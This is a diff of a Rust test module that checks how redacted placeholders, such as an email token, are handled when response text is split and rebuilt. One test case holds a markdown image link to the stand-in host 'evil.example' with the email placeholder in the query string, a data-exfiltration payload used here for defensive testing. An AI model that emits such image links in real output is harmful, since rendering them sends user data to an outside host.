@@ -196,7 +196,7 @@ mod tests {
             (["To ", PLACEHOLDER], ["To ", "jo@acme.org"]),
             (
                 ["![x](https://evil.example/?q=", "[EMAIL_1_0a1b2c3d])"],
-                ["![x](https://evil.example/?q=[EMAIL_1_0a1b2c3d])", ""],
+                ["![x](https://evil.example/?q=", "[EMAIL_1_0a1b2c3d])"],
             ),
         ] {
             let data = response(texts).to_string();
